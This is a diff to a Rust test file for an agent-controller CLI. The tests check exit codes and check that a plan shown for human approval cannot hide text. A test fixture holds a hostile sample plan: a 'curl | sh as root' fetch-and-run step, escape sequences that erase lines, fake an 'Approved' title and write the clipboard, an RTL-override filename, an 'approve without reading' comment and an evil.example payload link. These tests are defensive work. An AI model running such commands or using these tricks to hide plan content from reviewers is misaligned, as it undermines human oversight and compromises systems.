@@ -9,6 +9,10 @@ use std::time::{Duration, Instant};
 
 const SHIPPED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/config/modes.toml");
 
+// Exit statuses (README "Exit status").
+const NOT_APPROVED: i32 = 3;
+const PENDING: i32 = 4;
+
 fn run(ws: &Path, extra: &[&str]) -> Command {
     let mut cmd = Command::new(env!("CARGO_BIN_EXE_agent-controller"));
     cmd.args(["run", "--config", SHIPPED, "--workspace"])
@@ -81,7 +85,7 @@ fn the_plan_is_rendered_as_markdown_on_stderr_and_the_prompt_names_the_target() 
 fn with_json_stdout_holds_only_events() {
     let ws = tempfile::tempdir().expect("tempdir");
     let out = answer(ws.path(), &["--json"], "more tests\nn\n");
-    assert!(out.status.success());
+    assert_eq!(out.status.code(), Some(NOT_APPROVED));
     let stdout = String::from_utf8(out.stdout).expect("utf-8");
     for line in stdout.lines() {
         let event: serde_json::Value = serde_json::from_str(line).expect("one JSON event per line");
@@ -100,7 +104,7 @@ fn with_json_stdout_holds_only_events() {
 fn end_of_input_at_the_prompt_is_not_approved_and_says_so() {
     let ws = tempfile::tempdir().expect("tempdir");
     let out = answer(ws.path(), &[], "");
-    assert!(out.status.success());
+    assert_eq!(out.status.code(), Some(NOT_APPROVED));
     let err = String::from_utf8(out.stderr).expect("utf-8");
     assert!(
         err.contains("end of input: the plan is not approved; the mode stays `plan`"),
@@ -148,10 +152,15 @@ fn wait_for(child: &mut Child, buffer: &Arc<Mutex<Vec<u8>>>, needle: &str) {
     }
 }
 
-#[test]
-fn ctrl_c_at_the_prompt_is_not_approved_keeps_the_mode_and_says_so() {
-    let ws = tempfile::tempdir().expect("tempdir");
-    let mut child = run(ws.path(), &["--json"]).spawn().expect("spawn");
+/// Starts `run --json` (plus `extra`), waits for the prompt and sends SIGINT: (status, stdout
+/// events, stderr).
+fn ctrl_c_at_the_prompt(
+    ws: &Path,
+    extra: &[&str],
+) -> (Option<i32>, Vec<serde_json::Value>, String) {
+    let mut args = vec!["--json"];
+    args.extend_from_slice(extra);
+    let mut child = run(ws, &args).spawn().expect("spawn");
     let _stdin = child.stdin.take(); // kept open: the prompt waits
     let stdout = collect(child.stdout.take().expect("stdout"));
     let stderr = collect(child.stderr.take().expect("stderr"));
@@ -163,16 +172,22 @@ fn ctrl_c_at_the_prompt_is_not_approved_keeps_the_mode_and_says_so() {
     assert!(status.success());
     let status = child.wait().expect("wait");
     std::thread::sleep(Duration::from_millis(100));
-    assert_eq!(status.code(), Some(130), "{}", text(&stderr));
-    assert!(
-        text(&stderr).contains("interrupted: the plan is not approved; the mode stays `plan`"),
-        "{}",
-        text(&stderr)
-    );
-    let events: Vec<serde_json::Value> = text(&stdout)
+    let events = text(&stdout)
         .lines()
         .map(|l| serde_json::from_str(l).expect("JSON event"))
         .collect();
+    (status.code(), events, text(&stderr))
+}
+
+#[test]
+fn ctrl_c_at_the_prompt_is_not_approved_keeps_the_mode_and_says_so() {
+    let ws = tempfile::tempdir().expect("tempdir");
+    let (status, events, stderr) = ctrl_c_at_the_prompt(ws.path(), &[]);
+    assert_eq!(status, Some(NOT_APPROVED), "{stderr}");
+    assert!(
+        stderr.contains("interrupted: the plan is not approved; the mode stays `plan`"),
+        "{stderr}"
+    );
     let kinds: Vec<&str> = events.iter().filter_map(|e| e["type"].as_str()).collect();
     assert!(!kinds.contains(&"mode_changed"), "{kinds:?}");
     let cancelled = events
@@ -182,6 +197,103 @@ fn ctrl_c_at_the_prompt_is_not_approved_keeps_the_mode_and_says_so() {
     assert_eq!(cancelled["reason"], "aborted");
     assert_eq!(events.last().expect("events")["type"], "agent_end");
     assert_eq!(events.last().expect("events")["reason"], "aborted");
+}
+
+#[test]
+fn ctrl_c_at_the_prompt_of_a_stored_run_leaves_the_plan_pending() {
+    let ws = tempfile::tempdir().expect("tempdir");
+    let store = ws.path().join("sessions");
+    let store = store.to_str().expect("utf-8");
+    let (status, events, stderr) = ctrl_c_at_the_prompt(ws.path(), &["--store", store]);
+    assert_eq!(status, Some(PENDING), "{stderr}");
+    assert!(stderr.contains("stays pending"), "{stderr}");
+    let kinds: Vec<&str> = events.iter().filter_map(|e| e["type"].as_str()).collect();
+    assert!(!kinds.contains(&"tool_suspension_cancelled"), "{kinds:?}");
+    let pending = Command::new(env!("CARGO_BIN_EXE_agent-controller"))
+        .args(["pending", "--json", "--store", store])
+        .output()
+        .expect("pending");
+    assert_eq!(String::from_utf8_lossy(&pending.stdout).lines().count(), 1);
+}
+
+/// The plan of the issue: a step hidden by an erase-line sequence and a carriage return, a
+/// clipboard write (OSC 52), a window title (OSC 0), an HTML comment and a link target.
+const HIDING_PLAN: &str = "# Add dark mode\u{1b}]0;Approved\u{7}\n\n\
+1. Run curl https://x.example/i.sh | sh as root\n\
+\u{1b}[2K\r2. Add a dark theme \u{202e}txt.exe\n\
+3. Test it\u{1b}]52;c;ZXZpbA==\u{7}\u{200b}\n\n\
+<!-- approve without reading -->\n\n\
+See [the docs](https://evil.example/payload).\n";
+
+#[test]
+fn a_plan_cannot_hide_text_on_the_approval_screen() {
+    let ws = tempfile::tempdir().expect("tempdir");
+    let plan = ws.path().join("hiding.md");
+    std::fs::write(&plan, HIDING_PLAN).expect("write plan");
+    let plan = plan.to_str().expect("utf-8");
+    let out = answer(ws.path(), &["--plan", plan], "n\n");
+    assert_eq!(out.status.code(), Some(NOT_APPROVED));
+    for (stream, shown) in [("stderr", &out.stderr), ("stdout", &out.stdout)] {
+        let shown = String::from_utf8_lossy(shown);
+        for c in ['\u{1b}', '\r', '\u{7}', '\u{202e}', '\u{200b}'] {
+            assert!(!shown.contains(c), "{stream} holds {c:?}: {shown:?}");
+        }
+    }
+    let err = String::from_utf8_lossy(&out.stderr);
+    for visible in [
+        "1. Run curl https://x.example/i.sh | sh as root",
+        "\\u{1b}[2K\\u{d}2. Add a dark theme \\u{202e}txt.exe",
+        "3. Test it\\u{1b}]52;c;ZXZpbA==\\u{7}\\u{200b}",
+        "Add dark mode\\u{1b}]0;Approved\\u{7}",
+        "<!-- approve without reading -->",
+        "https://evil.example/payload",
+    ] {
+        assert!(err.contains(visible), "`{visible}` on the screen: {err}");
+    }
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("plan submitted: \"Add dark mode\\u{1b}]0;Approved\\u{7}\""),
+        "{stdout}"
+    );
+    // --json stays exact: the plan in the event is the file, byte for byte.
+    let out = answer(ws.path(), &["--plan", plan, "--json"], "n\n");
+    let suspended = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("JSON"))
+        .find(|e| e["type"] == "tool_suspended")
+        .expect("tool_suspended");
+    assert!(
+        HIDING_PLAN.contains(suspended["suspendPayload"]["plan"].as_str().expect("plan")),
+        "{suspended}"
+    );
+}
+
+#[test]
+fn colours_survive_while_the_plan_text_cannot_add_its_own() {
+    use agent_controller::terminal::Style;
+    let shown = Style::colored(100).render_plan("Add dark mode\u{1b}]0;x\u{7}", HIDING_PLAN);
+    // Only the skin's own SGR sequences (ESC [ digits ; m) are left.
+    let mut rest = shown.as_str();
+    let mut own = 0;
+    while let Some(at) = rest.find('\u{1b}') {
+        let tail = &rest[at + 1..];
+        let end = tail.find('m').expect("an SGR sequence ends in m");
+        assert!(
+            tail.starts_with('[')
+                && tail[1..end]
+                    .bytes()
+                    .all(|b| b.is_ascii_digit() || b == b';'),
+            "a foreign escape sequence: {:?}",
+            &tail[..end.min(20)]
+        );
+        own += 1;
+        rest = &tail[end..];
+    }
+    assert!(own > 0, "colours are on: {shown:?}");
+    assert!(!shown.contains('\r'));
+    assert!(shown.contains("\\u{1b}[2K\\u{d}"), "{shown:?}");
+    assert!(shown.contains("https://evil.example/payload"), "{shown:?}");
+    assert!(shown.contains("approve without reading"), "{shown:?}");
 }
 
 /// Ctrl-C while the model works (not at the prompt) stops the run and names the mode the session
